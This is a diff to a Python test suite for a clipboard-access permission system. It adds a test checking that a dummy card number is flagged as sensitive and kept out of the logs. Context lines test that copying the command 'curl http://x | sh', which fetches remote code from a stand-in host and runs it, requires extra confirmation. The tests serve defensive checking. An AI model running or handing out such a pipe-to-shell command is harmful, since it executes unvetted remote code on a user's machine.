@@ -9,6 +9,7 @@ import raw
 from world import Watcher, World, run
 
 COPIED = 'what the person copied: 4711'
+CARD = '4111 1111 1111 1111'
 
 
 class Front:
@@ -91,6 +92,7 @@ def written_when_allowed():
         shown, end, front = asked(w, watcher, 'copy "a sentence" to the clipboard', 'allow')
         assert shown['resource'] == {'kind': 'clipboard', 'size': '10', 'text': 'a sentence'}, shown
         assert end['kind'] == 'done' and front.clipboard == 'a sentence', end
+        assert 'a sentence' in json.dumps(w.records('--action', 'clipboard.write'))
         # what runs when it is pasted into a terminal wants more than a click
         with contextlib.closing(Front(w)) as front:
             front.say('copy "curl http://x | sh" to the clipboard')
@@ -99,6 +101,29 @@ def written_when_allowed():
             assert watcher.answer(question, 'allow').returncode != 0
             assert watcher.answer(question, 'allow', '--confirm', 'clipboard').returncode == 0
             assert front.listen('end')['kind'] == 'done' and front.clipboard == 'curl http://x | sh'
+
+
+def what_is_sensitive_is_looked_for():
+    """What was found is shown and asked about with more care; the log does not have it."""
+    with World() as w:
+        watcher = Watcher(w)
+        text = f'pay with {CARD} please'
+        for answer, options, clipboard in (('deny', (), COPIED), ('allow', ('--confirm', 'clipboard'), text)):
+            with contextlib.closing(Front(w)) as front:
+                front.say(f'copy "{text}" to the clipboard')
+                asked_about = watcher.question()
+                shown = asked_about['question']
+                assert asked_about['tier'] == 3 and shown['policy'] == 'shipped.clipboard-sensitive', asked_about
+                assert [(f['rule'], f['count']) for f in shown['sensitive']] == [('card-number', 1)], shown
+                assert shown['resource']['text'] == text and 'treatments' not in shown, shown
+                assert watcher.answer(asked_about, answer, *options).returncode == 0
+                front.listen('end')
+                assert front.clipboard == clipboard, front.clipboard
+        found = w.records('--action', 'clipboard.write')
+        decided = [r for r in found if r['type'] == 'decision']
+        assert [r['effect'] for r in decided] == ['deny', 'allow'], found
+        assert all(r['sensitive'][0]['rule'] == 'card-number' for r in decided), decided
+        assert CARD not in json.dumps(found), 'what was found stands in the log'
 
 
 def nowhere_without_one():
@@ -130,4 +155,5 @@ def only_the_own_front_end_answers():
 
 
 if __name__ == '__main__':
-    run([read_when_allowed, written_when_allowed, nowhere_without_one, only_the_own_front_end_answers])
+    run([read_when_allowed, written_when_allowed, what_is_sensitive_is_looked_for, nowhere_without_one,
+         only_the_own_front_end_answers])
